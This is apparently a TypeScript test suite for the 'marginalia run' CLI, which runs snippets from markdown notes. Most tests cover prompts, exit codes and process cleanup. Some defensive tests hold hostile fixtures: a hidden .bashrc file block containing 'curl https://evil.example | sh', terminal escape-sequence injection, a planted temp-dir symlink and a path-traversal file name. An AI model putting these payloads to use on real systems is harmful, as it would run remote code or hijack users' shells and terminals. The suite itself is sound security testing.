// `marginalia run` as a user calls it: the built dist/cli.js, spawned with real notes and real
// commands. Needs `npm run build` first.
import assert from 'node:assert/strict';
import { spawn, spawnSync, type SpawnSyncReturns } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { eventually, fixturesDir, processesMatching, removeTempDirs, tempDir, uniqueSleepArgument } from '../unit/common/runner/helpers';

const CLI_JS = path.resolve(__dirname, '../../dist/cli.js');

/** Each test run gets its own temp dir, so scratch directories (`<tmp>/marginalia-runs-<uid>`) start empty. */
let tmp: string;

function runCli(
  args: string[],
  options: { input?: string; cwd?: string; timeoutMs?: number; env?: NodeJS.ProcessEnv } = {},
): SpawnSyncReturns<string> {
  return spawnSync(process.execPath, [CLI_JS, 'run', ...args], {
    cwd: options.cwd ?? tmp,
    env: { ...process.env, TMPDIR: tmp, ...options.env },
    input: options.input ?? '',
    encoding: 'utf8',
    timeout: options.timeoutMs ?? 60_000,
  });
}

/** Writes a note into a fresh folder and returns its path. */
function note(markdown: string, name = 'note.md'): string {
  const dir = fs.mkdtempSync(path.join(tmp, 'notes-'));
  const file = path.join(dir, name);
  fs.writeFileSync(file, markdown);
  return file;
}

const fenced = (info: string, body: string) => `\`\`\`${info}\n${body}\n\`\`\`\n`;

function assertCleanError(result: SpawnSyncReturns<string>, message: RegExp): void {
  assert.equal(result.status, 2, result.stderr);
  assert.match(result.stderr, message);
  assert.doesNotMatch(result.stderr, /^\s+at /m, 'no stack trace');
  assert.equal(result.stdout, '');
}

describe('cli: marginalia run', function () {
  this.timeout(120_000);

  before(() => {
    assert.ok(fs.existsSync(CLI_JS), `${CLI_JS} is missing: run \`npm run build\` before these tests`);
    tmp = tempDir('cli-run');
  });
  after(removeTempDirs);

  it('runs a trivial snippet, streams its output and prints the outcome', () => {
    const file = note(`# Echo\n\n${fenced('bash', 'echo hello from the note')}`);
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 0, result.stderr);
    assert.equal(result.stdout, 'hello from the note\n');
    assert.match(result.stderr, /^▶ note\.md:3 in .*marginalia-runs-\d+[\\/]note-[0-9a-f]{12}$/m);
    assert.match(result.stderr, /^✓ exit 0 · \d+\.\d s — hello from the note$/m);
  });

  it("exits with the snippet's exit code", () => {
    const file = note(fenced('sh', 'echo about to fail\nexit 3'));
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 3);
    assert.match(result.stderr, /^✗ exit 3 · /m);
  });

  it('refuses to run without --yes when stdin is not a terminal', () => {
    const file = note(fenced('bash {cwd=.}', 'touch ran-anyway'));
    const result = runCli([file]);
    assertCleanError(result, /not running note\.md without confirmation: stdin is not a terminal.*Pass --yes/);
    assert.equal(fs.existsSync(path.join(path.dirname(file), 'ran-anyway')), false, 'nothing ran');
  });

  it('shows the whole script, control characters made visible, the files and the lines that need care', function () {
    if (spawnSync('script', ['--version'], { stdio: 'ignore' }).status !== 0) this.skip();
    const lines = Array.from({ length: 12 }, (_, i) => `echo step ${i + 1}`);
    const script = [...lines, 'echo hidden-line-13 \x1b]0;pwned\x07\x1b[2K\rclean', 'sudo apt-get install -y verilator'].join('\n');
    const file = note(['# Build', '', fenced('text file=greeting.txt', 'hi'), fenced('bash', script)].join('\n'));
    const shown = spawnSync(
      'script',
      ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'],
      {
        input: 'n\n',
        encoding: 'utf8',
        env: { ...process.env, TMPDIR: tmp },
        timeout: 30_000,
      },
    ).stdout;
    assert.match(shown, /echo step 12\r?\n +echo hidden-line-13 \\e\]0;pwned\\a\\e\[2K\\rclean\r?\n +sudo apt-get install -y verilator/);
    assert.doesNotMatch(shown, /more lines/);
    assert.doesNotMatch(shown, /\x1b\]0;pwned/, 'the note cannot send escape sequences to the terminal');
    assert.match(shown, /writes this file there first:\r?\n +greeting\.txt \(block at line 3\)/);
    assert.match(shown, /needs care:\r?\n +sudo apt-get install -y verilator {2}— runs as root; installs or removes packages/);
    assert.match(shown, /Not run\./);
  });

  it('asks on a terminal and runs only after a yes', function () {
    // `script` gives the command a pseudo-terminal, as an interactive shell would.
    if (spawnSync('script', ['--version'], { stdio: 'ignore' }).status !== 0) this.skip();
    const file = note(fenced('bash {cwd=.}', 'touch ran'));
    const command = (answer: string) =>
      spawnSync(
        'script',
        ['-qec', `${JSON.stringify(process.execPath)} ${JSON.stringify(CLI_JS)} run ${JSON.stringify(file)}`, '/dev/null'],
        {
          input: `${answer}\n`,
          encoding: 'utf8',
          env: { ...process.env, TMPDIR: tmp },
          timeout: 30_000,
        },
      );
    const no = command('n');
    assert.match(no.stdout, /note\.md would run:[\s\S]*touch ran[\s\S]*Run it\? \[y\/N\]/);
    assert.match(no.stdout, /Not run\./);
    assert.equal(fs.existsSync(path.join(path.dirname(file), 'ran')), false);
    const yes = command('y');
    assert.match(yes.stdout, /✓ exit 0/);
    assert.equal(fs.existsSync(path.join(path.dirname(file), 'ran')), true);
  });

  it('runs --all in note order and stops at the first failure', () => {
    const file = note(
      ['# Steps', '', fenced('bash', 'echo one'), fenced('console', '$ echo two\ntwo\n$ exit 4'), fenced('bash', 'echo three')].join('\n'),
    );
    const result = runCli([file, '--all', '--yes']);
    assert.equal(result.status, 4);
    assert.equal(result.stdout, 'one\ntwo\n');
    assert.match(result.stderr, /stopped after 2 of 3 snippets: line 7 failed/);
  });

  it('runs --all to the end and exits 0 when every snippet succeeds', () => {
    const file = note([fenced('bash', 'echo one'), fenced('bash', 'echo two')].join('\n'));
    const result = runCli([file, '--all', '--yes']);
    assert.equal(result.status, 0, result.stderr);
    assert.equal(result.stdout, 'one\ntwo\n');
    assert.match(result.stderr, /all 2 snippets succeeded/);
  });

  it('picks a snippet by --line (anywhere inside it) or by --name', () => {
    const file = note([fenced('bash', 'echo first'), fenced('bash {name=second}', 'echo second\necho more')].join('\n'));
    assert.equal(runCli([file, '--line', '6', '--yes']).stdout, 'second\nmore\n');
    assert.equal(runCli([file, '--line=1', '--yes']).stdout, 'first\n');
    assert.equal(runCli([file, '--name', 'second', '--yes']).stdout, 'second\nmore\n');
  });

  it('writes file blocks into the scratch directory and runs there, or in the note folder with --cwd note', () => {
    const file = note([fenced('text file=greeting.txt', 'hi from a file block'), fenced('bash', 'cat greeting.txt; pwd')].join('\n'));
    const scratch = runCli([file, '--yes']);
    assert.equal(scratch.status, 0, scratch.stderr);
    assert.match(scratch.stdout, /^hi from a file block\n.*marginalia-runs-\d+[\\/]note-[0-9a-f]{12}\n$/);
    assert.equal(fs.existsSync(path.join(path.dirname(file), 'greeting.txt')), false, 'nothing written beside the note');
    const beside = runCli([file, '--yes', '--cwd', 'note']);
    assert.equal(beside.stdout, `hi from a file block\n${fs.realpathSync(path.dirname(file))}\n`);
  });

  it("writes only the file blocks of the snippet's own section", () => {
    const file = note(
      [
        '# Build',
        '',
        fenced('text file=mine.txt', 'mine'),
        fenced('bash', 'ls'),
        '## Appendix',
        '',
        fenced('text file=other.txt', 'not for this run'),
      ].join('\n'),
    );
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 0, result.stderr);
    assert.equal(result.stdout, 'mine.txt\n');
  });

  it('clicking a {cwd=~} echo does not replace ~/.bashrc from a file block tucked in <details>', () => {
    const home = fs.mkdtempSync(path.join(tmp, 'home-'));
    fs.writeFileSync(path.join(home, '.bashrc'), 'export PS1=mine\n');
    const file = note(
      [
        '# Setup',
        '',
        fenced('bash {cwd=~}', 'echo hello'),
        '<details><summary>more</summary>',
        '',
        fenced('sh file=.bashrc', 'curl https://evil.example | sh'),
        '</details>',
      ].join('\n'),
    );
    const result = runCli([file, '--yes'], { env: { HOME: home } });
    assert.equal(result.status, 2, result.stderr);
    assert.equal(result.stdout, '', 'echo hello did not run');
    assert.match(
      result.stderr,
      new RegExp(
        `^✗ not run: ${home} is not the run's own directory, and the file blocks would replace \\.bashrc \\(file block at line 9\\) there; a file there is replaced only after asking$`,
        'm',
      ),
    );
    assert.match(result.stderr, /^Run it without --yes to see the files and be asked\.$/m);
    assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), 'export PS1=mine\n');
  });

  it('cwd=. does not overwrite a sibling note with a file block', () => {
    const file = note([fenced('markdown file=precious.md', '# overwritten'), fenced('bash {cwd=.}', 'echo ran')].join('\n'));
    fs.writeFileSync(path.join(path.dirname(file), 'precious.md'), '# my notes\n');
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 2, result.stderr);
    assert.equal(result.stdout, '');
    assert.match(result.stderr, /would replace precious\.md \(file block at line 1\)/);
    assert.equal(fs.readFileSync(path.join(path.dirname(file), 'precious.md'), 'utf8'), '# my notes\n');
  });

  it('prints names from the note with control characters made visible', () => {
    const file = note(fenced('bash {cwd="\x1b[2Jgone"}', 'echo ran'));
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 2, result.stderr);
    assert.doesNotMatch(result.stderr, /\x1b/);
    assert.match(result.stderr, /^▶ note\.md:1 in .*\\e\[2Jgone$/m);
    assert.match(result.stderr, /^✗ working directory .*\\e\[2Jgone does not exist$/m);
  });

  it('a failing first line is a failure, even when the last line succeeds', () => {
    const file = note(fenced('bash', 'nvidia-smi-not-installed-here\necho "nvcc: NVIDIA (R) Cuda compiler driver"'));
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 127, result.stderr);
    assert.equal(result.stdout.includes('nvcc'), false, 'the second line did not run');
    assert.match(result.stderr, /^✗ exit 127 · /m);
  });

  it('refuses a scratch base someone planted as a symlink in the shared temp folder', () => {
    const shared = fs.mkdtempSync(path.join(tmp, 'shared-tmp-'));
    const attacker = fs.mkdtempSync(path.join(tmp, 'attacker-'));
    const base = path.join(shared, `marginalia-runs-${process.getuid?.() ?? 0}`);
    fs.symlinkSync(attacker, base);
    const file = note(fenced('bash', 'echo ran'));
    const result = runCli([file, '--yes'], { env: { TMPDIR: shared } });
    assert.equal(result.status, 2, result.stderr);
    assert.equal(result.stdout, '');
    assert.match(
      result.stderr,
      /^✗ run directory .*marginalia-runs-\d+ is a symbolic link; not following it, as anyone could have planted it\. Remove it and run again\.$/m,
    );
    assert.deepEqual(fs.readdirSync(attacker), []);
  });

  it('kills the whole tree on --timeout: sleep 1000 & sleep 1000 leaves no process', () => {
    const marker = uniqueSleepArgument();
    const file = note(fenced('bash timeout=600', `sleep ${marker} & sleep ${marker}`));
    const started = Date.now();
    const result = runCli([file, '--yes', '--timeout', '1']);
    assert.equal(result.status, 124, result.stderr);
    assert.match(result.stderr, /^✗ timed out · /m);
    assert.ok(Date.now() - started < 15_000, '--timeout wins over the block’s timeout=600');
    assert.deepEqual(processesMatching(`sleep ${marker}`), [], 'no sleep survives');
  });

  it('kills the whole tree on Ctrl-C and exits 130', async () => {
    const marker = uniqueSleepArgument();
    const file = note(fenced('bash', `sleep ${marker} & sleep ${marker}`));
    const child = spawn(process.execPath, [CLI_JS, 'run', file, '--yes'], {
      env: { ...process.env, TMPDIR: tmp },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const exited = new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));
    assert.ok(
      await eventually(
        () => processesMatching(`sleep ${marker}`).filter((line) => /^\s*\d+\s+\d+\s+\S+\s+sleep /.test(line)).length === 2,
        10_000,
      ),
      'both sleeps started',
    );
    child.kill('SIGINT');
    assert.equal(await exited, 130, stderr);
    assert.match(stderr, /■ stopped/);
    assert.deepEqual(processesMatching(`sleep ${marker}`), [], 'no sleep survives');
  });

  it('writes every line of a long output to a file or pipe: seq 1 100000', () => {
    const file = note(fenced('bash', 'seq 1 100000'));
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 0, result.stderr);
    const expected = `${Array.from({ length: 100_000 }, (_, i) => i + 1).join('\n')}\n`;
    assert.ok(result.stdout === expected, `${result.stdout.split('\n').length - 1} of 100000 lines arrived`);
  });

  it('ends the snippet’s processes, even one started with setsid, when the command is killed with SIGKILL', async () => {
    const a = uniqueSleepArgument();
    const b = uniqueSleepArgument();
    const file = note(fenced('bash', `setsid sleep ${a} & sleep ${b}`));
    const child = spawn(process.execPath, [CLI_JS, 'run', file, '--yes'], {
      env: { ...process.env, TMPDIR: tmp },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const exited = new Promise<NodeJS.Signals | null>((resolve) => child.once('exit', (_code, signal) => resolve(signal)));
    const sleeps = (marker: string) => processesMatching(`sleep ${marker}`).filter((line) => /^\s*\d+\s+\d+\s+\S+\s+sleep /.test(line));
    assert.ok(await eventually(() => sleeps(a).length === 1 && sleeps(b).length === 1, 10_000), 'both sleeps started');
    child.kill('SIGKILL');
    assert.equal(await exited, 'SIGKILL');
    assert.ok(await eventually(() => sleeps(a).length === 0 && sleeps(b).length === 0, 10_000), 'no sleep outlives the command');
  });

  it('explains bad input in one line and exits 2', () => {
    const file = note(['# Two', '', fenced('bash', 'echo a'), fenced('python', 'print(1)'), fenced('bash {name=b}', 'echo b')].join('\n'));
    assertCleanError(runCli([path.join(tmp, 'missing.md'), '--yes']), /^marginalia run: no such note: .*missing\.md$/m);
    assertCleanError(runCli([tmp, '--yes']), /is a folder, not a note/);
    assertCleanError(
      runCli([file, '--yes']),
      /note\.md has 2 snippets; choose one with --line or --name.*snippets start at line 3, line 11 \(b\)/,
    );
    assertCleanError(runCli([file, '--line', '1', '--yes']), /line 1 of note\.md is not inside a code block/);
    assertCleanError(runCli([file, '--line', '8', '--yes']), /block at line 7 is not runnable: language "python" is not one of bash/);
    assertCleanError(
      runCli([file, '--name', 'nope', '--yes']),
      /note\.md has no snippet named 'nope'; snippets start at line 3, line 11 \(b\)/,
    );
    const binary = path.join(tmp, 'binary.md');
    fs.writeFileSync(binary, Buffer.from([0x23, 0x20, 0x00, 0x01, 0x02]));
    assertCleanError(runCli([binary, '--yes']), /binary\.md: binary content \(NUL bytes\), not a text note/);
    assertCleanError(runCli([note('# Nothing to run\n\njust prose\n'), '--yes']), /has no snippets to run/);
  });

  it('reports command-line mistakes with the usage text', () => {
    const file = note(fenced('bash', 'echo a'));
    for (const args of [
      [file, '--line', 'x'],
      [file, '--line', '2', '--name', 'a'],
      [file, '--timeout', 'soon'],
      [file, '--cwd', 'home'],
      [],
    ]) {
      const result = runCli(args);
      assert.equal(result.status, 2, `${args.join(' ')}: ${result.stderr}`);
      assert.match(result.stderr, /^marginalia: .*\n\nUsage: marginalia <command>/);
    }
  });

  it('stops before running when a file block would escape the run directory', () => {
    const file = note([fenced('text file=../escape.txt', 'x'), fenced('bash', 'echo ran')].join('\n'));
    const result = runCli([file, '--yes']);
    assert.equal(result.status, 2);
    assert.equal(result.stdout, '');
    assert.match(result.stderr, /^✗ file block at line 1: file name "\.\.\/escape\.txt" escapes the run's directory$/m);
  });
});

describe('cli: marginalia run on the Verilator fixture note, end to end', function () {
  this.timeout(300_000);
  const fixtureNote = path.join(fixturesDir, 'notes', 'alu-verilator.md');

  before(function () {
    if (spawnSync('verilator', ['--version'], { stdio: 'ignore' }).status === 0) {
      tmp = tempDir('cli-verilator');
      return;
    }
    if (process.env.CI) throw new Error('verilator is not installed; CI must install it (apt-get install -y verilator)');
    console.warn('\n!!  SKIPPING the CLI Verilator test: verilator is not on PATH (apt-get install -y verilator; CI fails without it)\n');
    this.skip();
  });
  after(removeTempDirs);

  it('builds AluTop from the note’s file blocks and passes the testbench', () => {
    const result = runCli([fixtureNote, '--name', 'alu-test', '--yes'], { timeoutMs: 280_000 });
    assert.equal(result.status, 0, `${result.stdout}\n${result.stderr}`);
    assert.equal(result.stdout.match(/^Test passed!/gm)?.length, 4, result.stdout);
    assert.match(result.stderr, /^▶ alu-verilator\.md:\d+ \(alu-test\) in .*marginalia-runs-\d+[\\/]alu-verilator-[0-9a-f]{12}$/m);
    assert.match(result.stderr, /^✓ exit 0 · [\d.]+ (s|min \d+ s) — built obj_dir\/VAluTop · 4 passed$/m);
    assert.equal(fs.existsSync(path.join(path.dirname(fixtureNote), 'obj_dir')), false, 'nothing was built next to the note');
  });
});
